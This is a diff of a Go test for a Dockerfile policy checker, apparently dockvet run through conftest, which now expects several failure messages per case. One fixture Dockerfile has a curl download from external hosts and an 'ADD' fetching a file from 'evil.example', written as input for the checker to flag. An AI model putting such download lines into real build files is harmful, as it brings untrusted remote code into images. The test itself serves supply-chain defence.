@@ -39,17 +39,30 @@ func TestConftest(t *testing.T) {
 	write("policy/images.rego", strings.ReplaceAll(policy, "\n    ", "\n"))
 	dockvet := program(t, "..", "./cmd/dockvet")
 	for _, c := range []struct {
-		dockerfile, want string
-		code             int
+		dockerfile string
+		want       []string
+		code       int
 	}{
-		{"FROM golang:1.26 AS build\nFROM registry.acme.example/debian:13\nCOPY --from=build /a /b\n", "Dockerfile:1: golang:1.26 is not from our registry", 1},
-		{"FROM registry.acme.example/golang:1.26 AS build\nFROM scratch\nCOPY --from=build /a /b\n", "0 failures", 0},
+		{
+			"FROM golang:1.26 AS build\nRUN curl -O https://get.example/a -O https://github.com/b\n" +
+				"FROM registry.acme.example/debian:13\nADD https://evil.example/x /\nLABEL com.acme.team=\"Team 1\"\n",
+			[]string{
+				"Dockerfile:1: golang:1.26 is not from our registry", "Dockerfile:2: a download from get.example",
+				"Dockerfile:4: a download from evil.example", "Dockerfile: the team is not in a label", "4 failures",
+			}, 1,
+		},
+		{
+			"FROM registry.acme.example/golang:1.26 AS build\nARG TEAM\nFROM scratch\nARG TEAM\nLABEL com.acme.team=$TEAM\n" +
+				"COPY --from=build /a /b\n", []string{"0 failures"}, 0,
+		},
 	} {
 		write("Dockerfile", c.dockerfile)
 		write("facts.json", runIn(t, dir, "", nil, []int{0}, dockvet, "facts"))
 		got := runIn(t, dir, "", nil, []int{c.code}, conftest, "test", "--no-color", "facts.json")
-		if !strings.Contains(got, c.want) {
-			t.Errorf("conftest prints %q for\n%s", got, c.dockerfile)
+		for _, want := range c.want {
+			if !strings.Contains(got, want) {
+				t.Errorf("conftest does not print %q but %q for\n%s", want, got, c.dockerfile)
+			}
 		}
 	}
 }
